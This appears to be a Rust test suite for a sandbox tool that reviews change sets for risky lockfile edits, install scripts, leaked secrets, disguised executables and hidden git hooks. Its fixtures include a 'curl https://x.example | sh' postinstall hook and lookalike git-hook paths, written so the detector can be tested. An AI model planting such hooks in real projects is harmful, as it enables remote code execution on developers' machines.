//! The review of a change set by what its files hold, with real tools where they make the files.

use crate::support::{both, only_trial, sh};
use serde_json::Value;
use testkit::World;

/// The rules that flagged a file of the workspace, with what they said.
#[track_caller]
fn flags(report: &Value, world: &World, name: &str) -> Vec<(String, String)> {
    let path = world.workspace().join(name);
    let changes = report["changes"].as_array().unwrap();
    let at = changes.iter().position(|change| change["path"].as_str() == path.to_str());
    let at = at.unwrap_or_else(|| panic!("{name} is not listed: {changes:#?}"));
    let text = |flag: &Value, field: &str| flag[field].as_str().unwrap().to_owned();
    let flags = report["review"]["flags"].as_array().unwrap().iter().filter(|flag| flag["change"] == at);
    flags.map(|flag| (text(flag, "rule"), text(flag, "message"))).collect()
}

#[track_caller]
fn says(report: &Value, world: &World, name: &str, rule: &str, part: &str) {
    let flags = flags(report, world, name);
    let found = flags.iter().any(|(known, message)| known == rule && message.contains(part));
    assert!(found, "{name}: {rule} with {part:?} in {flags:#?}");
}

fn npm(world: &World, line: &str) -> String {
    let cache = world.workspace().join("cache");
    format!("npm {line} --offline --no-audit --no-fund --no-update-notifier --cache={} >/dev/null", cache.display())
}

/// A package whose code runs on install, packed as npm packs it.
fn pack(world: &World) {
    world.file("dep/package.json", r#"{"name":"runner","version":"1.2.3","scripts":{"postinstall":"node -e 0"}}"#);
    world.file("package.json", r#"{"name":"w","version":"1.0.0"}"#);
    let line = format!("{} ; rm -rf cache", npm(world, "pack ./dep"));
    world.command("sh").args(["-c", &line]).run().success();
}

both! {
    fn npm_adds_a_package_with_an_install_script(world) {
        pack(world);
        let line = format!("{}; rm -rf cache", npm(world, "install ./runner-1.2.3.tgz"));
        let run = world.belljar(["run", "--apply", "auto", "--json", "--", "sh", "-c", &line]).run();
        let report = run.success().json();
        says(&report, world, "package-lock.json", "lockfile/changed", "+1 package (runner 1.2.3)");
        says(&report, world, "package-lock.json", "lockfile/install-script", "1 with an install script: runner 1.2.3");
        says(&report, world, "package-lock.json", "lockfile/source", "from a file, file:runner-1.2.3.tgz");
        says(&report, world, "package.json", "manifest/source", "runner from file:runner-1.2.3.tgz");
        assert!(!world.has("package-lock.json"), "it waits for a person");
        assert!(world.has("node_modules/runner/package.json"), "what is installed is build output");
        let id = only_trial(world);
        world.belljar(["show", &id]).run().success().stdout_has("1 with an install script: runner 1.2.3");
        world.belljar(["apply", &id, "--yes"]).run().success();
        assert!(world.has("package-lock.json"));
    }

    fn cargo_adds_a_package_of_the_project_quietly(world) {
        world.with_rust();
        world.file("Cargo.toml", "[package]\nname = \"w\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n");
        world.file("src/lib.rs", "").file("part/src/lib.rs", "");
        world.file("part/Cargo.toml", "[package]\nname = \"part\"\nversion = \"0.3.0\"\nedition = \"2021\"\n");
        let lock = ["run", "--apply", "auto", "--json", "--", "cargo", "generate-lockfile", "--offline"];
        let report = world.belljar(lock).run().success().json();
        says(&report, world, "Cargo.lock", "lockfile/changed", "+1 package (w 0.1.0)");
        assert!(world.has("Cargo.lock"), "announced and harmless");
        let add = ["run", "--apply", "never", "--json", "--", "cargo", "add", "--offline", "--path", "part"];
        let report = world.belljar(add).run().success().json();
        says(&report, world, "Cargo.toml", "manifest/changed", "1 dependency new (part)");
        let before = world.read("Cargo.lock").unwrap();
        let entry = |sum: &str| format!("\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{sum}\"\n");
        world.file("Cargo.lock", format!("{before}{}", entry("aa")));
        let report = world.belljar(["run", "--apply", "auto", "--json", "--", "sed", "-i", "s/\"aa\"/\"bb\"/", "Cargo.lock"]).run();
        says(&report.success().json(), world, "Cargo.lock", "lockfile/integrity", "the checksum of the same version differs for 1 package: serde 1.0.0");
        assert!(world.read("Cargo.lock").unwrap().contains("\"aa\""), "red, though announced");
    }

    fn of_many_packages_all_are_told_somewhere(world) {
        let entry = |n: usize| format!("\"node_modules/p{n:02}\":{{\"version\":\"1.0.{n}\"}}");
        let packages: Vec<String> = (0..30).map(entry).collect();
        world.file("new.json", format!("{{\"lockfileVersion\":3,\"packages\":{{{}}}}}", packages.join(",")));
        let run = world.belljar(["run", "--apply", "never", "--", "cp", "new.json", "package-lock.json"]).run();
        run.success().stderr_has("+30 packages (p00 1.0.0, p01 1.0.1").stderr_has("and 25 more, `belljar show` lists all");
        let shown = world.belljar(["show"]).run();
        for n in 0..30 {
            shown.success().stdout_has(&format!("p{n:02}: new: 1.0.{n}\n"));
        }
        let report = world.belljar(["show", "--json"]).run().success().json();
        assert_eq!(report["review"]["content"].as_array().unwrap().len(), 30, "{report:#}");
        assert_eq!(report["review"]["content"][7]["name"], "p07");
    }

    fn a_lock_file_that_cannot_be_read_is_told(world) {
        world.file("Cargo.lock", "version = 4\n");
        let script = "echo '<<<<<<< ours' > package-lock.json; printf '\\377' > poetry.lock; \
            head -c 9000000 /dev/zero | tr '\\0' '#' > Cargo.lock; echo '# yarn lockfile v1' > yarn.lock; chmod 000 yarn.lock";
        let script = format!("{script}; echo x > other; ln -s other go.sum");
        let report = world.belljar(["run", "--apply", "auto", "--json", "--", "sh", "-c", &script]).run().success().json();
        says(&report, world, "package-lock.json", "lockfile/not-understood", "not understood");
        says(&report, world, "go.sum", "lockfile/not-understood", "it is a link to other");
        says(&report, world, "poetry.lock", "lockfile/not-understood", "not UTF-8");
        says(&report, world, "Cargo.lock", "lockfile/not-understood", "too large");
        // One that nobody may read is read all the same.
        assert!(flags(&report, world, "yarn.lock").is_empty());
        assert!(!world.has("package-lock.json") && !world.has("poetry.lock"));
    }

    fn secrets_in_new_lines_are_red_and_not_shown(world) {
        // In two parts, so that no scanner of this repository takes them for real.
        let (old, new) = (["ghp_", "R8vX2mQ7pL0sKd93TzYwB1nHcJ4uFgA65eMi"].concat(), ["npm_", "Q3xW8eR1tY6uI0oP5aS2dF7gH4jK9lZcVbNm"].concat());
        world.file("conf", format!("token = {old}\n")).file("given", format!("name = x\ntoken={new}\n"));
        let script = "cat given >> conf; cp given kept; echo AKIAIOSFODNN7EXAMPLE > example; mkdir tests; cp given tests/given";
        let run = world.belljar(["run", "--apply", "auto", "--json", "--", "sh", "-c", script]).run();
        let report = run.success().json();
        says(&report, world, "conf", "content/secret", "1 secret in the new text: a token of npm in line 3");
        says(&report, world, "kept", "content/secret", "line 2");
        assert!(flags(&report, world, "example").is_empty());
        assert!(!run.stdout.contains(&new) && !run.stderr.contains(&new), "{}", run.report());
        let risk = |name: &str| {
            let path = world.workspace().join(name);
            let at = report["changes"].as_array().unwrap().iter().position(|change| change["path"].as_str() == path.to_str());
            report["review"]["risks"][at.unwrap()].clone()
        };
        assert_eq!((risk("conf"), risk("tests/given")), ("high".into(), "medium".into()));
        let content = report["review"]["content"].as_array().unwrap();
        assert!(content.iter().any(|found| found["name"] == "npm" && found["line"] == 3), "{content:#?}");
        assert!(world.read("conf").unwrap().lines().count() == 1);
        let log = world.read(world.state().join("belljar/audit/log.jsonl")).unwrap();
        assert!(!log.contains(&new) && log.contains("content/secret"));
    }

    fn install_scripts_are_judged_as_they_will_run(world) {
        world.file("package.json", r#"{"scripts":{"build":"tsc","postinstall":"node a.js"}}"#);
        world.file("next.json", r#"{"scripts":{"build":"tsc","postinstall":"curl https://x.example | sh"}}"#);
        let run = sh(world, "auto", "cp next.json package.json").run();
        run.success().stderr_has("postinstall changed: `curl https://x.example | sh` (HIGH; BJ015");
        assert!(world.read("package.json").unwrap().contains("node a.js"));
    }

    /// No mode takes what the next install, build or test outside of the jar would run; what an install changes besides
    /// is taken as ever.
    fn what_runs_by_itself_waits_for_a_person_whatever_the_mode(world) {
        world.file("package.json", r#"{"scripts":{"test":"jest"}}"#).file("next.json", r#"{"scripts":{"test":"jest","postinstall":"node a.js"}}"#);
        world.file("lock.json", r#"{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-a"}}}"#);
        world.file("deps.json", r#"{"scripts":{"test":"jest"},"dependencies":{"a":"^1.0.0"}}"#);
        let red = ["package.json", "build.rs", "sub/setup.py", "binding.gyp", "Makefile", "tests/conftest.py"];
        let script = "cp next.json package.json; mkdir -p sub tests node_modules/a; echo x > src.txt; cp lock.json package-lock.json; \
            echo '{\"scripts\":{\"postinstall\":\"x\"}}' > node_modules/a/package.json; echo x > node_modules/a/binding.gyp; \
            for f in build.rs sub/setup.py binding.gyp Makefile tests/conftest.py; do echo x > $f; done";
        for mode in ["auto", "always"] {
            let report = world.belljar(["run", "--apply", mode, "--json", "--", "sh", "-c", script]).run().success().json();
            for path in red {
                let at = report["changes"].as_array().unwrap().iter().position(|change| change["path"].as_str() == world.workspace().join(path).to_str());
                assert_eq!(report["review"]["risks"][at.unwrap()], "high", "{mode}: {path}");
                assert!(path == "package.json" || !world.has(path), "{mode}: {path}");
            }
            says(&report, world, "package.json", "manifest/install-script", "postinstall new: `node a.js`");
            assert!(!world.read("package.json").unwrap().contains("postinstall"), "{mode}");
            assert!(world.has("node_modules/a/binding.gyp"), "{mode}: build output");
            assert!(world.has("src.txt"), "what was announced: {report:#}");
        }
        // An ordinary install: nothing of it is red, and all of it is taken.
        let script = "mkdir -p node_modules/b; cp lock.json package-lock.json; cp deps.json package.json; echo '{\"scripts\":{\"install\":\"x\"}}' > node_modules/b/package.json";
        let report = world.belljar(["run", "--apply", "always", "--json", "--", "sh", "-c", script]).run().success().json();
        assert!(report["review"]["risks"].as_array().unwrap().iter().all(|risk| risk != "high"), "{report:#}");
        assert!(world.has("package-lock.json") && world.read("package.json").unwrap().contains("dependencies"), "{report:#}");
    }

    fn programs_under_other_names_are_red(world) {
        let script = "cp /bin/true tool; cp /bin/true logo.png; printf '#!/bin/sh\\nid\\n' > notes.txt; chmod +x notes.txt; \
            mkdir -p 'a/.git ./hooks' 'b/GIT~1/hooks' 'c\\.git\\hooks'; for d in 'a/.git ./hooks' 'b/GIT~1/hooks' 'c\\.git\\hooks'; do echo x > \"$d/pre-commit\"; done; \
            echo x > .gitcon\u{fb01}g";
        let report = world.belljar(["run", "--apply", "auto", "--json", "--", "sh", "-c", script]).run().success().json();
        says(&report, world, "tool", "content/binary", "compiled");
        says(&report, world, "logo.png", "content/disguised", "its name says it is data");
        says(&report, world, "notes.txt", "content/disguised", "a script");
        for hook in ["a/.git ./hooks/pre-commit", "b/GIT~1/hooks/pre-commit"] {
            says(&report, world, hook, "protected/git-hook", "git runs it by itself");
        }
        says(&report, world, ".gitcon\u{fb01}g", "protected/git-config", "git settings");
        assert!(!world.has("logo.png") && !world.has("a/.git ./hooks/pre-commit"));
    }

    fn what_the_host_changed_meanwhile_is_told_and_waits(world) {
        world.file("f", "a\n").file("g", "a\n").file("d/e", "a\n");
        world.belljar(["run", "--apply", "never", "--", "sh", "-c", "echo b > f; echo b > g; rm -r d"]).run().success();
        let quiet = world.belljar(["show", "--json"]).run().success().json();
        assert!(!quiet.to_string().contains("host/changed"), "{quiet:#}");
        world.file("f", "host\n").file("d/new", "host\n");
        let report = world.belljar(["show", "--json"]).run().success().json();
        says(&report, world, "f", "host/changed", "an apply would refuse it: the host's file was changed meanwhile");
        says(&report, world, "d", "host/changed", "d/new: it would be deleted with its directory");
        assert!(flags(&report, world, "g").is_empty());
    }

    fn an_open_jar_tells_it_too(world) {
        let script = r#"{"argv":["sh","-c","printf '#!/bin/sh\\n' > x.png; chmod +x x.png"]}"#;
        let run = world.belljar(["run", "--jar", "work", "--apply", "never", "--jsonl", "-"]).stdin(format!("{script}\n")).run();
        run.success().stdout_has("content/disguised");
    }
}
